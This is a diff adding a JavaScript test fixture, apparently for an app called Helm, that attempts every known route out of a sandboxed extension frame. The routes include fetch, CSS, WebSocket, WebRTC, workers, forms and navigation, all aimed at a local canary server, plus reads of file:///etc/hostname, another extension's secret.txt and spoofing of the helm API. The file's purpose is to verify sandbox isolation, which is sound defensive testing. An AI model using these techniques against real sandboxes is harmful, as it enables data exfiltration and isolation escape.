@@ -1,0 +1,206 @@
+// Every way out of an extension frame that Helm must close. Each attempt resolves to true if
+// the page could tell it got through; the test's canary server is the real judge.
+(function () {
+  'use strict';
+  var params = new URLSearchParams(location.hash.slice(1));
+  var port = params.get('port');
+  var canary = 'http://127.0.0.1:' + port;
+  var ws = 'ws://127.0.0.1:' + port;
+  var other = 'helm-ext://' + params.get('other');
+  var violations = [];
+  document.addEventListener('securitypolicyviolation', function (e) { violations.push(e.violatedDirective); });
+
+  function settle(ms) {
+    return new Promise(function (resolve) { setTimeout(function () { resolve(false); }, ms); });
+  }
+  function loads(tag, attr, url, extra) {
+    return new Promise(function (resolve) {
+      var el = document.createElement(tag);
+      el.onload = function () { resolve(true); };
+      el.onerror = function () { resolve(false); };
+      if (extra) extra(el);
+      el[attr] = url;
+      document.body.appendChild(el);
+    });
+  }
+  function requestOk(p) {
+    return p.then(function (r) { return r === undefined ? true : !!r; }, function () { return false; });
+  }
+  function frameLoaded(url) {
+    // A blocked frame still fires load (with an error page or nothing); reading it tells.
+    return new Promise(function (resolve) {
+      var f = document.createElement('iframe');
+      f.onload = function () {
+        try { resolve(!!(f.contentDocument && f.contentDocument.body && f.contentDocument.body.textContent.length)); }
+        catch (e) { resolve(false); }
+      };
+      f.src = url;
+      document.body.appendChild(f);
+    });
+  }
+  function xhr(url) {
+    return new Promise(function (resolve) {
+      var r = new XMLHttpRequest();
+      r.onload = function () { resolve(true); };
+      r.onerror = function () { resolve(false); };
+      try { r.open('GET', url); r.send(); } catch (e) { resolve(false); }
+    });
+  }
+  function socket() {
+    return new Promise(function (resolve) {
+      try {
+        var s = new WebSocket(ws + '/ws');
+        s.onopen = function () { resolve(true); };
+        s.onerror = function () { resolve(false); };
+      } catch (e) { resolve(false); }
+    });
+  }
+  function eventSource() {
+    return new Promise(function (resolve) {
+      try {
+        var s = new EventSource(canary + '/events');
+        s.onopen = function () { s.close(); resolve(true); };
+        s.onerror = function () { s.close(); resolve(false); };
+      } catch (e) { resolve(false); }
+    });
+  }
+  function css() {
+    var style = document.createElement('style');
+    style.textContent = '@import url("' + canary + '/import.css");' +
+      '@font-face { font-family: leak; src: url("' + canary + '/font.woff"); }' +
+      '.leak { background-image: url("' + canary + '/bg.png"); font-family: leak; }';
+    document.head.appendChild(style);
+    var div = document.createElement('div');
+    div.className = 'leak';
+    div.textContent = 'leak';
+    document.body.appendChild(div);
+    return Promise.all([loads('link', 'href', canary + '/sheet.css', function (l) { l.rel = 'stylesheet'; }),
+      document.fonts.load('16px leak').then(function (f) { return f.length > 0; }, function () { return false; })])
+      .then(function (r) { return r[0] || r[1]; });
+  }
+  function hints() {
+    ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload'].forEach(function (rel) {
+      var l = document.createElement('link');
+      l.rel = rel; l.as = 'fetch'; l.href = canary + '/' + rel;
+      document.head.appendChild(l);
+    });
+    var a = document.createElement('a');
+    a.href = '#nowhere'; a.ping = canary + '/ping';
+    document.body.appendChild(a);
+    a.click();
+    return settle(300);
+  }
+  function workers() {
+    var made = false;
+    try { new Worker('worker.js#' + port); made = true; } catch (e) { /* refused */ }
+    try {
+      var blob = new Blob(['fetch("' + canary + '/blob-worker")'], { type: 'text/javascript' });
+      new Worker(URL.createObjectURL(blob)); made = true;
+    } catch (e) { /* refused */ }
+    try { new SharedWorker('worker.js#' + port); made = true; } catch (e) { /* refused */ }
+    var sw = navigator.serviceWorker ? navigator.serviceWorker.register('worker.js').then(function () { return true; }, function () { return false; }) : Promise.resolve(false);
+    return sw.then(function (r) { return r; });
+  }
+  function webrtc() {
+    return new Promise(function (resolve) {
+      try {
+        var pc = new RTCPeerConnection({ iceServers: [
+          { urls: 'stun:127.0.0.1:' + port },
+          { urls: ['turn:127.0.0.1:' + port + '?transport=udp', 'turn:127.0.0.1:' + port + '?transport=tcp'], username: 'u', credential: 'p' }] });
+        var leaked = false;
+        pc.createDataChannel('leak');
+        pc.onicecandidate = function (e) {
+          if (e.candidate && / typ (srflx|relay)/.test(e.candidate.candidate)) leaked = true;
+          if (!e.candidate) resolve(leaked);
+        };
+        pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).catch(function () { resolve(false); });
+        setTimeout(function () { resolve(leaked); }, 4000);
+      } catch (e) { resolve(false); }
+    });
+  }
+  function subframeBridge() {
+    var f = document.createElement('iframe');
+    document.body.appendChild(f);
+    var w = f.contentWindow;
+    return Promise.resolve(!!(w && (w.helm || w.qt)));
+  }
+  function channelTransport() {
+    return Promise.resolve(typeof window.qt !== 'undefined' && !!(window.qt && window.qt.webChannelTransport));
+  }
+  function spoofHelm() {
+    var original = window.helm.call;
+    try { window.helm.call = function () {}; } catch (e) { /* frozen */ }
+    try { window.helm = { call: function () {} }; } catch (e) { /* read-only */ }
+    try { Object.defineProperty(window, 'helm', { value: {} }); } catch (e) { /* not configurable */ }
+    return Promise.resolve(window.helm.call !== original || !Object.isFrozen(window.helm));
+  }
+
+  window.hostile = {
+    escape: function () {
+      var attempts = {
+        fetch: requestOk(fetch(canary + '/fetch', { mode: 'no-cors' })),
+        xhr: xhr(canary + '/xhr'),
+        img: loads('img', 'src', canary + '/img.png'),
+        css: css(),
+        websocket: socket(),
+        eventsource: eventSource(),
+        beacon: Promise.resolve(navigator.sendBeacon(canary + '/beacon', 'x')).then(function () { return settle(300); }),
+        script: loads('script', 'src', canary + '/script.js'),
+        module: import(canary + '/module.js').then(function () { return true; }, function () { return false; }),
+        media: Promise.all([loads('video', 'src', canary + '/v.mp4'), loads('audio', 'src', canary + '/a.mp3')]).then(function (r) { return r[0] || r[1]; }),
+        object: Promise.all([loads('object', 'data', canary + '/o'), loads('embed', 'src', canary + '/e')]).then(function () { return settle(300); }),
+        iframe: frameLoaded(canary + '/frame'),
+        srcdoc: loads('iframe', 'srcdoc', '<img src="' + canary + '/srcdoc.png">').then(function () { return settle(300); }),
+        hints: hints(),
+        fileFetch: requestOk(fetch('file:///etc/hostname')),
+        fileImg: loads('img', 'src', 'file:///usr/share/pixmaps/debian-logo.png'),
+        fileFrame: frameLoaded('file:///etc/hostname'),
+        workers: workers(),
+        webrtc: webrtc(),
+        otherFetch: requestOk(fetch(other + '/secret.txt')),
+        otherImg: loads('img', 'src', other + '/pixel.svg'),
+        otherFrame: frameLoaded(other + '/index.html'),
+        windowOpen: Promise.resolve(!!window.open(canary + '/open') || !!window.open(other + '/index.html')),
+        subframeBridge: subframeBridge(),
+        channelTransport: channelTransport(),
+        spoofHelm: spoofHelm(),
+        ownImage: loads('img', 'src', 'pixel.svg')
+      };
+      var names = Object.keys(attempts);
+      // An attempt that never answers did not get through either; the canary has the last word.
+      var bounded = names.map(function (n) {
+        return Promise.race([attempts[n], new Promise(function (resolve) { setTimeout(function () { resolve('no answer'); }, 6000); })]);
+      });
+      return Promise.all(bounded).then(function (results) {
+        var out = {};
+        names.forEach(function (n, i) { out[n] = results[i]; });
+        return { got_through: out, violations: violations.length };
+      });
+    },
+    leave: function () {
+      // Navigation and forms last: had one worked, the page would be gone.
+      var form = document.createElement('form');
+      form.action = canary + '/form'; form.method = 'POST';
+      var input = document.createElement('input');
+      input.name = 'x'; input.value = 'leak';
+      form.appendChild(input);
+      document.body.appendChild(form);
+      try { form.submit(); } catch (e) { /* refused */ }
+      var blank = form.cloneNode(true);
+      blank.target = '_blank';
+      document.body.appendChild(blank);
+      try { blank.submit(); } catch (e) { /* refused */ }
+      var meta = document.createElement('meta');
+      meta.httpEquiv = 'refresh'; meta.content = '0; url=' + canary + '/refresh';
+      document.head.appendChild(meta);
+      var a = document.createElement('a');
+      a.href = canary + '/link';
+      document.body.appendChild(a);
+      a.click();
+      location.href = other + '/index.html';
+      location.assign('file:///etc/hostname');
+      location.href = canary + '/navigate';
+      return true;
+    }
+  };
+})();
